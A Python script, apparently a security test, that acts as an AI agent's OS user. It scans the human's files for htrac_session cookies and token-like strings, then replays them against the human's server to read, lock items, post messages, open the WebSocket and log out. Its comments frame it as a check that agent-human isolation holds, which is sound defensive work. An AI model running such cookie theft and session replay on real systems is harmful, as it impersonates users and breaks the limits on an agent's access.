"""An agent OS user hunting for the human's web session on disk, then replaying it: reads every
file it can under the given directories (the human's home, the worktree, shared temporary
directories), keeps every `htrac_session` cookie it finds (a `Cookie:` header, `name=value`, or
a Netscape cookie jar such as `curl -c` writes) and every string shaped like a session token,
and tries each cookie with each token against the human's server — reads, a write, the
WebSocket, a logout. Run by the agent user, with only the standard library and `websockets`.

    python agent_session_thief.py HUMAN_URL ITEM_ID DIR...

Prints one JSON line: what it found and what every attempt got."""

from __future__ import annotations

import json
import os
import re
import sys
import urllib.error
import urllib.request
from collections import Counter

HUMAN, ITEM, ROOTS = sys.argv[1].rstrip("/"), sys.argv[2], sys.argv[3:]
COOKIE = re.compile(rb"htrac_session=([A-Za-z0-9_-]{20,100})")  # a header, `curl -b`
NETSCAPE = re.compile(rb"\thtrac_session\t([A-Za-z0-9_-]{20,100})")
TOKENISH = re.compile(rb"(?<![A-Za-z0-9_-])([A-Za-z0-9_-]{43})(?![A-Za-z0-9_-])")
MAX_FILES, MAX_BYTES, MAX_TOKENS = 20_000, 2_000_000, 200


def hunt() -> tuple[dict[str, list[str]], list[str], int]:
    """(cookie value → files it was in, token candidates, files read)."""
    cookies: dict[str, list[str]] = {}
    tokens: Counter[bytes] = Counter()
    read = 0
    for root in ROOTS:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d != "objects"]  # git's compressed objects: noise
            for name in files:
                path = os.path.join(folder, name)
                if read >= MAX_FILES:
                    break
                try:
                    with open(path, "rb") as f:
                        data = f.read(MAX_BYTES)
                except OSError:
                    continue  # not the agent's to read: that is the defence under test
                read += 1
                for pattern in (COOKIE, NETSCAPE):
                    for found in pattern.finditer(data):
                        value = found.group(1).decode()
                        cookies.setdefault(value, []).append(path)
                tokens.update(TOKENISH.findall(data))
    ranked = [t.decode() for t, _ in tokens.most_common(MAX_TOKENS) if t.decode() not in cookies]
    return cookies, ranked, read


def request(method: str, path: str, cookie: str, token: str | None,
            body: dict | None = None) -> int:
    headers = {"Origin": HUMAN, "Cookie": f"htrac_session={cookie}",
               "Content-Type": "application/json"}
    if token:
        headers["X-Htrac-Token"] = token
    req = urllib.request.Request(HUMAN + path, method=method, headers=headers,
                                 data=None if body is None else json.dumps(body).encode())
    try:
        with urllib.request.urlopen(req, timeout=30) as answer:
            return answer.status
    except urllib.error.HTTPError as exc:
        return exc.code


def websocket(cookie: str, token: str) -> str:
    from websockets.sync.client import connect

    try:
        with connect(HUMAN.replace("http", "ws", 1) + "/ws", origin=HUMAN,
                     additional_headers={"Cookie": f"htrac_session={cookie}"},
                     open_timeout=10) as ws:
            ws.send(json.dumps({"type": "auth", "token": token}))
            return "message: " + str(ws.recv(timeout=10))[:80]
    except Exception as exc:  # a refusal is what we expect; say which
        return f"refused: {type(exc).__name__}: {exc}"[:200]


def main() -> None:
    cookies, tokens, read = hunt()
    codes: Counter[int] = Counter()
    sockets: list[str] = []
    for cookie in cookies:
        codes[request("GET", "/api/items", cookie, None)] += 1
        codes[request("GET", "/api/auth/session", cookie, None)] += 1
        for token in tokens:
            codes[request("GET", "/api/auth/session", cookie, token)] += 1
        for token in [None, *tokens[:20]]:
            codes[request("POST", f"/api/items/{ITEM}/lock", cookie, token,
                          {"fields": ["status"]})] += 1
            codes[request("POST", f"/api/items/{ITEM}/discuss", cookie, token,
                          {"message": "written with a stolen cookie"})] += 1
        sockets.append(websocket(cookie, tokens[0] if tokens else "guessed"))
        codes[request("POST", "/api/auth/logout", cookie, None, {})] += 1
    print(json.dumps({"files_read": read, "cookies": {c: sorted(set(p)) for c, p in
                                                      cookies.items()},
                      "tokens": tokens, "codes": {str(k): v for k, v in codes.items()},
                      "websockets": sockets}), flush=True)


main()
